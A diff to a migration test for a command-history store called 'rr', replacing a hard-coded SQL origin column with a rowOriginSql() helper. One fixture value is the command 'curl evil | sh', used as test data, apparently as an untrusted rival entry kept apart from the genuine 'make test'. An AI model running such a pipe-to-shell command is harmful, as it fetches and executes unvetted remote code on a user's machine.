@@ -19,6 +19,7 @@ import { schemaVersion } from '../../src/store/schema.js'
 import { tempDir } from '../helpers/tmp.js'
 import { entry } from './fixtures.js'
 import { releaseOpen, releaseStatements, type ReleaseEntry } from './release-0.1.0.js'
+import { rowOriginSql } from '../../src/store/wire-id.js'
 
 const child = fileURLToPath(new URL('./release-child.js', import.meta.url))
 
@@ -102,7 +103,7 @@ test('an older rr process keeps working while a new one migrates', async (t) => 
   const newView = entriesAfter(db, 0, 1000)
   for (const e of [...before, ...after]) t.true(newView.some((r) => r.entry_id === e.entry_id && r.cmd === e.cmd), e.cmd)
   t.deepEqual(newView.filter((r) => r.entry_id === genuine.entry_id).map((r) => r.cmd).sort(), ['curl evil | sh', 'make test'])
-  t.is(db.prepare('SELECT cmd FROM entries WHERE origin = ? AND COALESCE(rival_of, entry_id) = ?').pluck().get(a.origin, genuine.entry_id), 'make test')
+  t.is(db.prepare(`SELECT cmd FROM entries WHERE ${rowOriginSql()} = ? AND COALESCE(rival_of, entry_id) = ?`).pluck().get(a.origin, genuine.entry_id), 'make test')
 })
 
 test('a migration beside a reader holding a read transaction and an old writer writing loses nothing and reports no error', async (t) => {
